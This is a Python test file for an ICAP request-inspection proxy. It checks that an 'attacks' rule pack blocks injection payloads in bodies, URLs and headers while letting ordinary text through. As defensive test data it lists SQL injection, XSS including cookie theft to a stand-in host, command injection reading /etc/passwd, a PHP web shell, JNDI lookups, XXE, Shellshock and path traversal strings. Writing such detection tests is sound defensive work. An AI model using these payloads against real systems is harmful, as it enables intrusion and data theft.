"""The pack attacks: payloads are blocked wherever a request carries them, and people's work is not."""

import json
import random
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.policies import UNHURRIED

from icapd.http.headers import Headers
from icapd.http.media_types import MediaType
from icapd.inspection import Finding, Fingerprinter, Inspector
from icapd.policy import Action, default_rules_directory, load_policy

PAYLOADS = {
    "sql": [
        "1' OR '1'='1",
        "' or 1=1--",
        "admin'--",
        "1; DROP TABLE users",
        "' UNION SELECT username, password FROM users--",
        "1 AND SLEEP(5)",
        "1 UN/**/ION SEL/**/ECT 1",
        "1/**/uNiOn/**/aLl/**/sElEcT/**/1,2",
        "x' AND email IS NULL; --",
        "1 and (select count(*) from users) > 0",
        "'; waitfor delay '0:0:5'--",
        "1 order by 10--",
        "1' and extractvalue(1,concat(0x7e,version()))-- -",
        "(select(0)from(select(sleep(15)))v)",
    ],
    "script": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
        "\" onmouseover=\"alert(1)",
        "';alert(1)//",
        "eval(atob('YWxlcnQoMSk='))",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "<iframe srcdoc=\"<img src=x onerror=alert(1)>\">",
        "fetch('//x.example/?c='+document.cookie)",
    ],
    "commands": [
        "; cat /etc/passwd",
        "127.0.0.1; cat /etc/passwd",
        "| whoami",
        "x && id",
        "$(curl http://x.example/)",
        "`id`",
        "& ping -n 5 127.0.0.1 &",
        ";cat${IFS}/etc/passwd",
        "() { :; }; /bin/id",
    ],
    "code": [
        "__import__('os').system('id')",
        "<?php system($_GET['c']); ?>",
        "phpinfo();",
        "require('child_process').exec('id')",
        "{{7*7}}",
        "{{config.items()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    ],
    "files": [
        "../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
    ],
    "other": [
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:rmi://x.example/a}",
        "*)(uid=*))(|(uid=*",
        "=cmd|' /C calc'!A0",
        "__proto__[admin]",
        '{"username": {"$ne": null}}',
    ],
}  # fmt: skip
CASES = [
    pytest.param(payload, id=f"{family}-{number}")
    for family, payloads in PAYLOADS.items()
    for number, payload in enumerate(payloads, 1)
]

JSON = MediaType.parse(b"application/json")
FORM = MediaType.parse(b"application/x-www-form-urlencoded")


@pytest.fixture(scope="module")
def inspector() -> Inspector:
    policy = load_policy(default_rules_directory(), packs=["attacks"])
    return Inspector(policy.request, Fingerprinter.ephemeral(), UNHURRIED)


def blocked(findings: tuple[Finding, ...]) -> bool:
    return any(finding.action is Action.BLOCK for finding in findings)


@pytest.mark.parametrize("payload", CASES)
def test_a_payload_is_blocked_in_every_carrier(inspector: Inspector, payload: str) -> None:
    document = json.dumps({"page": 1, "filter": {"name": payload}})
    escaped = "".join(f"\\u{ord(character):04x}" for character in payload)
    assert blocked(inspector.inspect_body(document.encode(), JSON).findings)
    assert blocked(inspector.inspect_body(f'["{escaped}"]'.encode(), JSON).findings)
    assert blocked(inspector.inspect_body(f"page=1&name={quote_plus(payload)}".encode(), FORM).findings)
    url = f"https://shop.example/search?page=1&name={quote_plus(payload)}"
    assert blocked(inspector.inspect_url(url.encode()).findings)


@settings(max_examples=60, deadline=None)
@given(
    payload=st.sampled_from(
        [
            "' union select name, secret from users-- -",
            "1 and sleep(5)",
            "1 or 1=1",
            "1' or '1'='1",
            "1 order by 9--",
        ]
    ),
    gap=st.sampled_from([" ", "  ", "\t", "\n", "/**/", "/*x*/", "+"]),
    seed=st.integers(0, 2**32),
)
def test_case_and_blanks_do_not_hide_sql(inspector: Inspector, payload: str, gap: str, seed: int) -> None:
    chance = random.Random(seed)
    spelled = "".join(chance.choice((letter.lower(), letter.upper())) for letter in payload)
    # Not the blank that makes `--` a comment; with few line breaks, so that the value is looked at.
    head, blank, tail = spelled.partition("-- ")
    spelled = head.replace(" ", gap, 2) + blank + tail
    assert blocked(inspector.inspect_body(json.dumps({"id": spelled}).encode(), JSON).findings)


ENTITIES = "".join(f'<!ENTITY e{number} "&e{number - 1};&e{number - 1};">' for number in range(1, 6))
DOCUMENTS = [
    pytest.param('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', id="entity-file"),
    pytest.param(
        "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://x.example/x.dtd'> %x;]><a/>", id="parameter-entity"
    ),
    pytest.param('<!DOCTYPE a PUBLIC "-//A//B" "http://x.example/x.dtd"><a/>', id="external-dtd"),
    pytest.param(f"<!DOCTYPE a [{ENTITIES}]><a>&e5;</a>", id="billion-laughs"),
    pytest.param('<a><xi:include parse="text" href="file:///etc/passwd"/></a>', id="xinclude"),
]


@pytest.mark.parametrize("document", DOCUMENTS)
def test_xml_that_reaches_outside_is_blocked(inspector: Inspector, document: str) -> None:
    padding = f"<!-- {'x' * 5000} -->\n" * 3
    xml = f'<?xml version="1.0"?>\n{padding}{document}'
    assert blocked(inspector.inspect_body(xml.encode(), MediaType.parse(b"application/xml")).findings)
    assert blocked(inspector.inspect_body(json.dumps({"xml": xml}).encode(), JSON).findings)


UNGATED = "A long comment. " * 100
LONG = [
    pytest.param(FORM, f"text={quote_plus(UNGATED)}<script>alert(1)</script>", id="script-in-a-form"),
    pytest.param(JSON, json.dumps([UNGATED + "${jndi:ldap://x.example/a}"]), id="jndi"),
    pytest.param(FORM, f"text={quote_plus(UNGATED + '<?php eval($_POST[1]); ?>')}", id="php"),
]


@pytest.mark.parametrize(("media_type", "body"), LONG)
def test_padding_does_not_hide_what_is_precise(
    inspector: Inspector, media_type: MediaType, body: str
) -> None:
    assert blocked(inspector.inspect_body(body.encode(), media_type).findings)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        pytest.param(b"User-Agent", b"${jndi:ldap://x.example/a}", id="jndi"),
        pytest.param(b"X-Anything", b"() { :; }; /bin/id", id="shellshock"),
        pytest.param(b"Referer", b"https://x.example/<script>alert(1)</script>", id="script"),
    ],
)
def test_headers_are_looked_at(inspector: Inspector, name: bytes, value: bytes) -> None:
    assert blocked(inspector.inspect_headers(Headers(((name, value),))).findings)


HEAD_PAYLOADS = [
    pytest.param("1' or '1'='1", id="sql"),
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("x;cat /etc/passwd", id="command"),
    pytest.param("{{7*7}}", id="template"),
    pytest.param("../../../etc/passwd", id="path"),
]


@pytest.mark.parametrize("payload", HEAD_PAYLOADS)
def test_a_payload_is_blocked_wherever_it_stands_in_a_head(inspector: Inspector, payload: str) -> None:
    escaped = quote(payload, safe="")
    for name, value in (
        ("User-Agent", f"Mozilla/5.0 {payload}"),
        ("Referer", f"https://a.example/?q={escaped}"),
        ("Cookie", f"a=1; b={escaped}; c=2"),
        ("X-Anything", payload),
    ):
        assert blocked(inspector.inspect_headers(Headers(((name.encode(), value.encode()),))).findings)
    assert blocked(inspector.inspect_url(f"https://a.example/x/{escaped}/y".encode()).findings)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        pytest.param("X-Forwarded-For", "203.0.113.7, 10.0.0.1, 127.0.0.1", id="chain"),
        pytest.param("X-Forwarded-For", "unknown", id="unknown"),
        pytest.param("Forwarded", 'for="[2001:db8::1]:443";proto=https;by=_x', id="forwarded"),
        pytest.param("X-Real-IP", "2001:db8::1", id="ipv6"),
        pytest.param("X-Forwarded-Host", "www.example.org:8443", id="host"),
        pytest.param("X-Forwarded-Proto", "https", id="scheme"),
        pytest.param("Via", "1.1 proxy.example (squid/5.7), 1.0 fred", id="via"),
        pytest.param("X-Original-URL", "https://www.example.org/a?b=c", id="whole-url"),
        pytest.param("X-HTTP-Method-Override", "DELETE", id="method"),
        pytest.param("X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678;Sampled=1", id="trace"),
        pytest.param("X-Envoy-Original-Path", "/a/b?c=d", id="envoy"),
        pytest.param("CF-Visitor", '{"scheme":"https"}', id="json"),
    ],
)
def test_what_proxies_write_passes(inspector: Inspector, name: str, value: str) -> None:
    assert not inspector.inspect_headers(Headers(((name.encode(), value.encode()),))).findings


@pytest.mark.parametrize(
    ("name", "value"),
    [
        pytest.param("X-Forwarded-For", "1.2.3.4' or sleep(5)#", id="sql"),
        pytest.param("X-Real-IP", "1.2.3.4%0d%0aX-Admin: 1", id="line-break"),
        pytest.param("X-Forwarded-Host", "localhost:8080", id="loopback"),
        pytest.param("X-Rewrite-URL", "/admin", id="path"),
        pytest.param("X-HTTP-Method-Override", "TRACE", id="method"),
    ],
)
def test_what_no_proxy_writes_is_blocked(inspector: Inspector, name: str, value: str) -> None:
    assert blocked(inspector.inspect_headers(Headers(((name.encode(), value.encode()),))).findings)


def test_a_short_plain_body_is_a_value(inspector: Inspector) -> None:
    text = MediaType.parse(b"text/plain")
    assert blocked(inspector.inspect_body(b"' or 1=1--\n", text).findings)
    assert blocked(inspector.inspect_body(b"{{config.items()}}", text).findings)
    assert not inspector.inspect_body(b"It's 5 or 6, isn't it?", text).findings


def test_a_way_out_of_the_directory_in_the_path_is_blocked(inspector: Inspector) -> None:
    assert blocked(inspector.inspect_url(b"https://a.example/static/..%2f..%2f..%2fetc%2fpasswd").findings)


SQL = "SELECT o.id, u.name FROM orders o JOIN users u ON u.id = o.user_id WHERE o.total > 10 OR u.vip = 1"
CODE = """const rows = await db.query(`SELECT * FROM t WHERE id = ${id}`);
if (rows.length && 1 < 2) {
  eval(x);
}
"""
PYTHON = """import os
for name in os.listdir('..'):
    print(f'{name}: {os.stat(name).st_size}')
"""
HARMLESS = {
    "apostrophe": "it's fine, isn't it?",
    "prose": "Select the union of both sets, then drop me a line; or don't -- it's up to you.",
    "colour": "#ff0000",
    "name": "O'Brien & Sons",
    "quoted-words": "'yes' or 'no'",
    "arithmetic": "5 and 6 make 11, and 12 is 3 * 4 if x = y",
    "sql-statement": SQL,
    "sql-with-union": f"{SQL} UNION ALL SELECT id, name FROM archive",
    "sql-question": f"Why is this slow? {SQL}",
    "javascript-chat": f"Here is the code:\n```js\n{CODE}```\nIt's slow -- why?",
    "html-chat": 'How do I use <b>bold</b> and <a href="/x" title="it\'s">links</a> or a <script> element?',
    "shell-command": "cd src && ls -la | grep test; git status",
    "shell-pipeline": "ps aux | sort -k3 | head -5",
    "python-chat": PYTHON,
    "diff": "--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n-x = 'a' or 'b'\n+x = 'a' and 1\n",
    "markdown-table": "| id | name |\n|----|------|\n| 1 | cat |",
    "relative-path": "../../packages/core/src/index.ts",
    "template": "Hello {{ user.name }}, you owe ${total}.",
    "address": "https://www.example.org/a/b.html?x=1&y=2#z",
    "local-address": "http://127.0.0.1:8080/api",
    "graphql": "query($id: ID!) { node(id: $id) { ... on User { name } } }",
    "regular-expression": r"^(?:a|b)[\w.-]+@(?:\d{1,3}\.){3}\d+$",
    "date": "2026-01-02T03:04:05Z",
    "base64": "aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0",
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_people_may_write_what_they_like(inspector: Inspector, text: str) -> None:
    chat = {"model": "m", "messages": [{"role": "user", "content": text}], "selected": True}
    assert not inspector.inspect_body(json.dumps(chat).encode(), JSON).findings
    assert not inspector.inspect_body(f"name=a&text={quote_plus(text)}".encode(), FORM).findings
    assert not inspector.inspect_url(f"https://a.example/?q={quote_plus(text)}".encode()).findings


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"' or 1=1--{' ' * 512}", id="longer-than-512-bytes"),
        pytest.param("' or 1=1--" + "\n" * 13, id="more-than-twelve-line-breaks"),
    ],
)
def test_what_is_no_short_value_is_left_to_its_readers(inspector: Inspector, text: str) -> None:
    assert not inspector.inspect_body(json.dumps({"content": text}).encode(), JSON).findings


XML = [
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    '<!DOCTYPE html><html><body onload="start()"><script src="a.js"></script></body></html>',
    '<!DOCTYPE note SYSTEM "note.dtd" [<!ENTITY copy "&#169;">]><note/>',
]


@pytest.mark.parametrize("document", XML, ids=["xhtml", "plist", "svg", "html", "note"])
def test_ordinary_document_types_pass(inspector: Inspector, document: str) -> None:
    assert not inspector.inspect_body(document.encode(), MediaType.parse(b"text/xml")).findings
